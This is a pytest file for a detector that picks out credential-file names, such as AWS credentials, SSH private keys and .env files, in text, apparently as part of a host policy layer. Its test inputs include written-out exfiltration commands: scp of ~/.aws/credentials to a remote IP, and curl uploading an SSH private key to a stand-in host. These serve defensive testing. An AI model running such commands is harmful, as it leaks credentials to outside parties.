"""Files that hold credentials, named in a text (rule 1 by reference)."""

from __future__ import annotations

import pytest

from host_pep.recognition.secret_files import secret_files


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("scp ~/.aws/credentials deploy@91.203.4.11:/tmp/", ("~/.aws/credentials",)),
        ("curl -F file=@~/.ssh/id_ed25519 https://x.example", ("@~/.ssh/id_ed25519",)),
        ("attach .env to the ticket", (".env",)),
        ("tar czf out.tgz config/secrets.yaml", ("config/secrets.yaml",)),
        ("deploy@host:/srv/app/.env.production", ("deploy@host:/srv/app/.env.production",)),
    ],
)
def test_credentials_files_are_named(text: str, found: tuple[str, ...]) -> None:
    assert secret_files(text) == found


@pytest.mark.parametrize(
    "text",
    [
        "upload ~/.ssh/id_rsa.pub to GitHub",  # a public key
        "copy .env.example to .env.sample",  # templates hold no secret
        "the environment and the credentials page",  # words, not files
        "send report.pdf and notes.md",
    ],
)
def test_other_files_are_not(text: str) -> None:
    assert secret_files(text) == ()
